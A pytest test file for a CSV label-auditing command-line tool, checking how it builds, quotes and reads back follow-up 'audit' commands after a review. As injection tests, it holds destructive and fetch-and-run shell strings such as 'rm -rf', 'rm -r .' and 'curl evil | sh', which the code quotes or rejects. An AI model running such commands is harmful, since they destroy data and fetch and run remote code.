"""After a review: the next command, whole; files that have lost their errors; when to stop."""

import csv
import json
import re
import shlex
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from typer.testing import CliRunner, Result

import csvor.cli.commands._audit
from csvor.cli._follow_up import (
    audit_command,
    next_audit,
    read_command,
    read_record,
    record_of,
    write_record,
)
from csvor.cli.commands._app import app

CLASSES = ["poor", "fair", "so so", "good"]
OPTIONS = (
    "--target", "the grade", "--classes", ",".join(CLASSES), "--id", "name", "--groups", "site",
    "--drop", "it's noise", "--weight", "times", "--fdr", "0.3", "--order", "probability",
    "--models", "own", "--kernel", "linear", "--C", "1", "--constraints", "explicit",
    "--folds", "4", "--seed", "3", "--class-weight", "so so:1.5", "--delimiter", ";",
)  # fmt: skip
LEFT = r"look at (\d+) more, expect (\d+) errors? \((\d+) to (\d+)\); after that about (\d+)"


def run(*args: object) -> Result:
    result = CliRunner(env={"COLUMNS": "400"}).invoke(app, [str(arg) for arg in args])
    assert result.exit_code == 0, result.stderr
    return result


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A file of 300 rows, 30 of them wrong, the page of its audit, and what a reviewer decided."""
    rng = np.random.default_rng(1)
    x = rng.normal(size=300)
    truth = np.digitize(x + 0.2 * rng.normal(size=300), [-1, 0, 1])
    codes, bad = truth.copy(), rng.choice(300, 30, replace=False)
    codes[bad] = (truth[bad] + rng.integers(1, 4, 30)) % 4
    place = tmp_path_factory.mktemp("loop")
    frame = pd.DataFrame({"name": [f"N{i}" for i in range(300)], "x": x})
    frame["site"], frame["it's noise"], frame["times"] = np.arange(300) % 50, rng.random(300), 1.0
    frame["the grade"] = np.array(CLASSES)[codes]
    frame.to_csv(place / "ratings v1.csv", index=False, sep=";")
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(place)
        table = ("--report", "page.html", "--suspects", "all.csv")
        run("audit", "ratings v1.csv", *OPTIONS, *table)
        Path("before.html").write_text(Path("page.html").read_text())
        page = re.search(r'id="config">(.*?)</script>', Path("page.html").read_text(), re.S)
        command = json.loads(page[1])["command"]
        rows = pd.read_csv("all.csv").query("flagged == 'yes' or flagged == True")["row"]
        with open("decisions.csv", "w", newline="") as file:
            write = csv.writer(file).writerow
            write(["row", "target", "given", "decision", "label", "audit"])
            for i in sorted(rows - 1):
                had, right = CLASSES[codes[i]], CLASSES[truth[i]]
                decision = ["keep", ""] if had == right else ["relabel", right]
                write([i + 1, "the grade", had, *decision, command])
    return place


@pytest.fixture
def _there(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(folder)


@pytest.mark.usefixtures("_there")
def test_apply_prints_the_next_command_which_does_what_it_should() -> None:
    said = run("apply", "decisions.csv", "ratings v1.csv", "--out", "clean.csv").stdout
    command = said.splitlines()[-1].removeprefix("Next, of the file as it was: ")
    more = ("--reviewed", "decisions.csv")
    as_json = ("--suspects", "rest.csv", "--json")
    documents = [
        json.loads(run(*words, *as_json).stdout)
        for words in (shlex.split(command)[1:], ("audit", "ratings v1.csv", *OPTIONS, *more))
    ]
    assert documents[0] == documents[1]
    assert shlex.split(command)[-4:] == ["--report", "page.html", *more]
    settings = documents[0]
    assert settings["reviewed"]["file"] == "decisions.csv"
    assert len(settings["suspects"]) == 300
    # What a reviewer looked at is not ranked again.
    decided = set(pd.read_csv("decisions.csv")["row"])
    assert not decided & {row["row"] for row in settings["suspects"] if row["flagged"]}


@pytest.mark.usefixtures("_there")
def test_a_file_that_apply_wrote_says_how_to_go_on(tmp_path: Path) -> None:
    document = json.loads(
        run("apply", "decisions.csv", "ratings v1.csv", "--out", "clean.csv", "--json").stdout
    )
    assert document["out"]["record"] == "clean.csv.applied.json"
    result = run("audit", "clean.csv", *OPTIONS)
    n = document["decisions"]["relabelled"]
    assert f"note: clean.csv is what csvor apply wrote: {n} errors found before are gone" in (
        result.stderr
    )
    assert result.stderr.rstrip().endswith(document["next"])
    assert re.search("But +errors found before are gone, so it looks too clean", result.stdout)
    # A file that was changed since, or stands elsewhere, is another one; other columns as well.
    before = Path("clean.csv").read_text()
    for name, text in (("clean.csv", before + "\n"), ("other.csv", before)):
        Path(name).write_text(text)
        assert read_record(name, "the grade") is None
    Path("clean.csv").write_text(before)
    assert read_record("clean.csv", "the grade") is not None
    Path("clean.csv.applied.json").write_text("{")
    unknown = run("audit", "clean.csv", *OPTIONS, "--json")
    assert "csvor apply" not in unknown.stderr
    assert json.loads(unknown.stdout)["next_rows"] is None


@pytest.mark.usefixtures("_there")
def test_a_review_is_followed_by_what_to_expect() -> None:
    more = ("--reviewed", "decisions.csv", "--report", "next.html")
    said = run("audit", "ratings v1.csv", *OPTIONS, *more).stdout
    n, expected, low, high, _ = map(int, re.search(LEFT, said).groups())
    assert n == len(pd.read_csv("decisions.csv")) and low <= expected <= high
    found = json.loads(run("audit", "ratings v1.csv", *OPTIONS, *more[:2], "--json").stdout)
    of_rows = found["next_rows"]
    assert (of_rows["n"], of_rows["low"], of_rows["high"]) == (n, low, high)
    first = sum(row["probability"] for row in found["suspects"][:n])
    assert of_rows["expected"] == pytest.approx(first)
    page = Path("next.html").read_text()
    assert f"Reviewed so far: {n} rows (" in page and page.count("Next, ") == 1
    assert (
        f"look at {n} more rows, by chance of error: about {expected} ({low} to {high}) are" in page
    )
    assert "Reviewed so far" not in Path("before.html").read_text()


@pytest.mark.parametrize(
    "options",
    [
        (),
        OPTIONS[2:],
        ("--classes", "a,b c", "--drop", "x y", "--drop", "$z", "--keep", "k", "--missing", "-9"),
        ("--missing-label", "", "--fold-labels", "--dates", "--decimal", ",", "--impute"),
        ("--categorical", "é", "--clip", "2.5", "--gamma", "0.1", "--components", "20", "--p", "1"),
        ("--class-weight", "a:2", "--class-weight", "b c:0.5", "--max-iter", "7", "--top", "0"),
        ("--gamma", "scale", "--contamination", "0", "--class-weight", "balanced", "--tune"),
    ],
)
def test_a_command_is_made_of_its_options(
    options: tuple[str, ...], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    Path("-t.csv").touch()
    Path("t.csv").touch()
    caught: list[Any] = []
    monkeypatch.setattr(
        csvor.cli.commands._audit, "run_audit", lambda *args: caught.append(args[:3])
    )
    if "--target" not in options:
        options = ("--target", "y", *options)
    options = tuple(word for word in options if word != "--tune")  # `audit` has none
    outputs = ("--suspects", "s.csv", "--json")
    CliRunner().invoke(app, ["audit", "t.csv", *options, *outputs], catch_exceptions=False)
    command = audit_command(*caught[0])
    CliRunner().invoke(app, [*shlex.split(command)[1:], *outputs], catch_exceptions=False)
    assert caught[0] == caught[1]


@pytest.mark.parametrize(
    "text",
    ["", "-9", "rm -rf t.csv --target y", "csvor audit 't.csv --target y", "csvor audit t.csv",
     "csvor audit t.csv --target \x1b[31m", "csvor audit t.csv --target y --dask tcp://there:8786",
     "csvor audit t.csv --target y --dask=tcp://there:8786",
     "csvor audit t.csv --target y --suspects=data.csv",
     "csvor audit t.csv --target y --json"],
)  # fmt: skip
def test_other_texts_are_no_command(text: str) -> None:
    assert read_command(text) == ()


def test_a_command_from_a_file_runs_nothing_else() -> None:
    words = read_command("csvor audit a.csv --target y; rm $(b) `c` | d")
    assert next_audit(words, "x y.csv", "d.csv") == (
        "csvor audit 'x y.csv' --target 'y;' rm '$(b)' '`c`' '|' d --reviewed d.csv"
    )


def test_a_record_from_anybody_is_a_command_of_ours_or_none(tmp_path: Path) -> None:
    path = str(tmp_path / "a.csv")
    Path(path).write_text("x,y")
    for text in (
        "csvor audit 'a b.csv' --target y",
        "csvor audit 'a b' --target y, other options as before",
    ):
        write_record(path, "y", 3, text)
        assert read_record(path, "y") == {"changed": 3, "next": text}
        assert read_record(path, "z") is None
    write_record(path, "y", 3, "csvor audit a.csv --target y; rm -r .")
    assert read_record(path, "y") == {
        "changed": 3,
        "next": "csvor audit a.csv --target 'y;' rm -r .",
    }
    write_record(path, "y", 3, "curl evil | sh")
    assert read_record(path, "y") == {"changed": 3, "next": None}
    record = json.loads(record_of(path).read_text())
    for wrong in ({**record, "changed": "many"}, {"written_by": "csvor apply"}, [record]):
        record_of(path).write_text(json.dumps(wrong))
        assert read_record(path, "y") is None


@pytest.mark.usefixtures("_there")
def test_a_command_that_is_not_known_is_said_to_be_as_before() -> None:
    frame = pd.read_csv("decisions.csv")
    frame.loc[0, "audit"] = "csvor audit other.csv --target grade"
    frame.to_csv("two.csv", index=False)
    frame.drop(columns="audit").to_csv("none.csv", index=False)
    for name in ("two.csv", "none.csv"):
        said = run("apply", name, "ratings v1.csv", "--out", "o.csv").stdout
        assert "as it was: csvor audit 'ratings v1.csv' --target 'the grade'" in said
        assert said.endswith(f"--reviewed {name}, other options as before\n")  # not wrapped
